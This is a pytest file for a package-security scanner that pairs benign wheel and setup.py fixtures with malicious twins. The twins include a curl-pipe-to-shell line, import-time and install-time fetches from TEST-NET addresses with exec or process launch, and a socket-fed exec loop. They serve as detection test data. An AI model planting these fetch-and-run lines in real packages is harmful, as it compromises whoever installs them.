"""Round 15's false-alarm classes, each a harmless fixture beside a malicious twin.

Every harmless fixture (how a popular release does the thing) must stay below high; every twin
(the same shape doing harm) must still be high or critical with the threat named for it.
Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import record_digests, wheel_entries, zip_bytes
from tests.core.capabilities.variant_scan import HIGH, scan, subfolder

# ---------------------------------------------------------------- RECORD and native libraries
# A fat wheel merging one build per platform (aws-psycopg2) lists only the first build's
# extension in RECORD; a wheel whose vendored libraries were stripped after auditwheel wrote
# RECORD (eckitlib) has stale hashes for them. Only native files differ from RECORD.
ELF_LIB = b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"libc.so.6\x00" * 4
MODULE = b"from ._ext import connect\n"


def _built(tmp_path, after: dict[str, bytes], changed: dict[str, bytes] | None = None):
    """A wheel whose RECORD holds real digests of what was built; ``after`` is added and
    ``changed`` rewritten once RECORD is written."""
    files = {
        "gizmo/__init__.py": MODULE,
        "gizmo.libs/libssl-8248cfc9.so.1.1.1k": ELF_LIB,
        "gizmo/_ext.cpython-311-x86_64-linux-gnu.so": ELF_LIB,
    }
    entries = wheel_entries("gizmo", "1.0", files)
    entries["gizmo-1.0.dist-info/RECORD"] = record_digests(entries, "gizmo-1.0.dist-info")
    entries.update(changed or {})
    entries.update(after)
    tmp_path.mkdir(parents=True, exist_ok=True)
    out = tmp_path / "gizmo-1.0-cp311-cp311-manylinux_2_28_x86_64.whl"
    out.write_bytes(zip_bytes(entries))
    return scan_artifact(open_artifact(out))


def _mismatches(res) -> list[tuple[str, str]]:
    return sorted(
        (h.match, h.severity) for h in res.findings if h.capability == "install.record_mismatch"
    )


def test_native_libraries_added_or_changed_after_the_build_are_a_medium_mismatch(tmp_path):
    res = _built(
        tmp_path,
        after={"gizmo/_ext.cp311-win_amd64.pyd": b"MZ" + bytes(100)},
        changed={"gizmo.libs/libssl-8248cfc9.so.1.1.1k": ELF_LIB + b"\x00stripped"},
    )
    assert _mismatches(res) == [
        ("gizmo.libs/libssl-8248cfc9.so.1.1.1k", "medium"),
        ("gizmo/_ext.cp311-win_amd64.pyd", "medium"),
    ]
    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]


def test_a_module_or_a_script_named_like_a_library_changed_after_the_build_stays_high(tmp_path):
    """What a hand-poisoned release edits, a module, stays a high mismatch; so does a file
    named like a library that holds no native code (a script under a ``.so`` name)."""
    payload = b"import os\nos.system('curl http://192.0.2.7/x | sh')\n"
    res = _built(tmp_path / "a", after={}, changed={"gizmo/__init__.py": MODULE + payload})
    assert ("gizmo/__init__.py", "high") in _mismatches(res)
    assert res.risk.level in HIGH
    res = _built(tmp_path / "b", after={"gizmo/_fast.so": b"#!/bin/sh\nid\n"})
    assert _mismatches(res) == [("gizmo/_fast.so", "high")]
    assert "mismatch.record" in {t.id for t in res.threats if t.severity in HIGH}


# ---------------------------------------------------------------- a release fetched at import
# sling's bin.py, imported by its __init__, fetches the CLI it wraps from its own GitHub
# releases into a temp file the first time; nothing in the module starts or sends it on.
FETCH_BINARY = """import os, tempfile, urllib.request

VERSION = "1.4.2"
URL = "{url}"


ARCHIVE = os.path.join(os.path.dirname(__file__), "bin", "tool.tar.gz")
if not os.path.exists(ARCHIVE):
    with tempfile.NamedTemporaryFile(delete=False, suffix=".tar.gz") as tmp:
        with urllib.request.urlopen(URL) as response:
            tmp.write(response.read())
    ARCHIVE = tmp.name
"""
RELEASE_URL = "https://github.com/example-org/tool-cli/releases/download/v1.4.2/tool.tar.gz"


def _tool(tmp_path, module: str):
    files = {"gadget/__init__.py": b"from .bin import ARCHIVE\n", "gadget/bin.py": module.encode()}
    tmp_path.mkdir(parents=True, exist_ok=True)
    out = tmp_path / "gadget-1.0-py3-none-any.whl"
    out.write_bytes(zip_bytes(wheel_entries("gadget", "1.0", files)))
    return scan_artifact(open_artifact(out))


def test_a_module_fetching_its_release_at_import_is_medium(tmp_path):
    res = _tool(tmp_path, FETCH_BINARY.format(url=RELEASE_URL))
    fetch = [h for h in res.findings if h.capability == "net.download_to_disk"]
    assert fetch and {h.severity for h in fetch} == {"medium"}
    assert "github.com" in fetch[0].explanation
    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]


def test_a_release_listed_through_githubs_api_at_import_is_medium(tmp_path):
    """PySAM's release script asks GitHub's API for the project's releases and stores the
    previous one's tarball."""
    api = "https://api.github.com/repos/example-org/tool-cli/releases"
    res = _tool(tmp_path, FETCH_BINARY.format(url=api))
    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]


def test_a_fetch_at_import_from_elsewhere_or_started_stays_high(tmp_path):
    """The same module fetching from a bare address, or starting what it fetched, is the
    dropper it looks like."""
    res = _tool(tmp_path / "a", FETCH_BINARY.format(url="http://198.51.100.4/tool.tar.gz"))
    assert "place.import_time" in {t.id for t in res.threats if t.severity in HIGH}
    started = FETCH_BINARY.format(url=RELEASE_URL) + (
        "import subprocess\nsubprocess.Popen([ARCHIVE], start_new_session=True)\n"
    )
    res = _tool(tmp_path / "b", started)
    assert res.risk.level in HIGH
    assert any(
        h.capability == "net.download_to_disk" and h.severity == "high" for h in res.findings
    )


# ---------------------------------------------------------------- exec of a compiled version file
# suds-jurko's setup.py runs its version module through a helper that reads, tidies and
# compiles the file, so tracebacks name it: exec of the package's own text, at install time.
SUDS_SETUP = """import os
from setuptools import setup


def read_python_code(filename):
    file = open(filename, "rt")
    try:
        source = file.read()
    finally:
        file.close()
    source = source.replace("\\\\r\\\\n", "\\\\n").replace("\\\\r", "\\\\n")
    return compile(source, filename, "exec")


exec(read_python_code(os.path.join("gizmo", "version.py")))
setup(name="gizmo", version=__version__, packages=["gizmo"])
"""


def test_exec_of_a_helper_compiling_the_packages_own_file_is_not_an_install_act(tmp_path):
    files = {
        "setup.py": SUDS_SETUP,
        "gizmo/__init__.py": "",
        "gizmo/version.py": "__version__ = '1.0'\n",
    }
    res = scan(files, tmp_path)
    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]
    (run,) = [h for h in res.findings if h.path == "setup.py" and h.line == 15]
    assert run.rule == "py.exec_local_file"


def test_a_helper_that_also_fetches_its_text_is_still_exec_of_remote_code(tmp_path):
    """The same helper with one binding of ``source`` from the network runs fetched code."""
    fetched = SUDS_SETUP.replace(
        "    finally:\n        file.close()\n",
        "    finally:\n        file.close()\n"
        "    if not source:\n"
        "        import urllib.request\n"
        "        source = urllib.request.urlopen('http://203.0.113.9/v.py').read().decode()\n",
    )
    files = {"setup.py": fetched, "gizmo/__init__.py": "", "gizmo/version.py": ""}
    res = scan(files, tmp_path)
    assert res.risk.level in HIGH
    assert "place.install_time" in {t.id for t in res.threats if t.severity in HIGH}
    runs = [h.rule for h in res.findings if h.path == "setup.py" and h.line == 18]
    assert runs and "py.exec_local_file" not in runs, runs


# ---------------------------------------------------------------- modules fed over standard input
# sshuttle's server half is piped to the remote Python over ssh; it then reads each further
# module, compressed, from standard input and runs it. Nobody feeds an import or an install.
ASSEMBLER = """import sys, types, zlib

z = zlib.decompressobj()
while 1:
    name = sys.stdin.buffer.readline().strip().decode("ascii")
    if not name:
        break
    nbytes = int(sys.stdin.buffer.readline())
    content = z.decompress({source})
    module = types.ModuleType(name)
    exec(compile(content, name, "exec"), module.__dict__)
    sys.modules[name] = module
"""


def test_modules_decompressed_from_standard_input_and_run_are_not_a_payload(tmp_path):
    module = ASSEMBLER.format(source="sys.stdin.buffer.read(nbytes)")
    res = scan({"relay/__init__.py": "", "relay/assembler.py": module}, tmp_path)
    assert res.risk.level not in HIGH, [(t.id, t.severity) for t in res.threats]
    runs = [h for h in res.findings if h.capability == "exec.decode_then_exec"]
    assert runs and {h.severity for h in runs} == {"medium"}


def test_the_same_loop_over_a_shipped_blob_or_a_socket_stays_critical(tmp_path):
    for i, source in enumerate(("open('relay/blob.bin', 'rb').read(nbytes)", "sock.recv(nbytes)")):
        module = "import socket\nsock = socket.create_connection(('192.0.2.3', 80))\n"
        module += ASSEMBLER.format(source=source)
        res = scan(
            {"relay/__init__.py": "", "relay/assembler.py": module}, subfolder(tmp_path, str(i))
        )
        assert res.risk.level == "critical", source
